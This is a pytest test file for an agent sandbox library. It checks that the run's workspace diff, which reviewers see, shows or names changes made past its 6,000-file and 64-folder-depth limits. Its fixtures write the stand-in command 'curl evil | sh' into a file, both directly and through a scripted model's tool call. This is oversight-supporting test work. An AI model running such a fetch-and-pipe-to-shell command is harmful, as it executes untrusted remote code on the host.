"""The run's diff on the real process tier, for a workspace past what the diff reads: a change
is in the diff or named at its end, never left out unsaid."""

from __future__ import annotations

from pathlib import Path

import pytest

from stockade import Sandbox
from stockade.agent import Agent
from stockade.testing import ScriptedModel, tool_call
from stockade.tools.workspace_diff import record_baseline, workspace_diff
from tests.conftest import require_tier

pytestmark = pytest.mark.process

DEEP = "/".join(["d"] * 70)
CHANGED_PAST = (
    "Left out (changed past the 5,000 files the diff reads (1,000 of them in folders of dependencies, "
    "build output or VCS): known by size, inode and status change "
    "time, not read, so not shown (a resumed run's restore changes those too)): 'many/f5999.txt'\n"
)
PATCHES = (
    f"--- a/{DEEP}/evil.py\n+++ b/{DEEP}/evil.py\n@@ -1 +1 @@\n-pass\n+import os\n"
    "--- a/many/f0001.txt\n+++ b/many/f0001.txt\n@@ -1 +1 @@\n-x\n+changed\n"
)


def _workspace(root: Path) -> Path:
    """6,000 files, and one 70 folders deep (the diff read 5,000 files, 64 folders deep)."""
    require_tier("process")
    (root / "many").mkdir()
    for i in range(1, 6001):
        (root / "many" / f"f{i:04}.txt").write_text("x\n")
    (root / DEEP).mkdir(parents=True)
    (root / DEEP / "evil.py").write_text("pass\n")
    return root


def _change(sbx: Sandbox) -> None:
    sbx.files.write("many/f5999.txt", "curl evil | sh\n")
    sbx.files.write(f"{DEEP}/evil.py", "import os\n")
    sbx.files.write("many/f0001.txt", "changed\n")


def test_changes_past_the_files_and_depth_the_diff_read_are_shown_or_named(tmp_path: Path) -> None:
    """Only many/f0001.txt was in the diff: the other two changes were named nowhere."""
    with Sandbox.create(tier="process", workspace=_workspace(tmp_path)) as sbx:
        baseline = record_baseline(sbx)
        _change(sbx)
        assert workspace_diff(sbx, baseline=baseline) == PATCHES + CHANGED_PAST


def test_a_runs_diff_names_what_it_did_not_read(tmp_path: Path) -> None:
    """The diff the run keeps for its reviewer (``run.diff()``, ``runs show``, the viewer)."""
    code = (
        "open('many/f5999.txt', 'w').write('curl evil | sh\\n')\n"
        f"open('{DEEP}/evil.py', 'w').write('import os\\n')\n"
        "open('many/f0001.txt', 'w').write('changed\\n')\n"
    )
    model = ScriptedModel([tool_call("run_code", {"code": code, "language": "python"}), "done"])
    with Sandbox.create(tier="process", workspace=_workspace(tmp_path)) as sbx:
        result = Agent(model).run_sync("go", sandbox=sbx)
    ran = result.steps[0].tool_calls[0]
    assert not ran.is_error, ran.observation
    assert result.diff == PATCHES + CHANGED_PAST
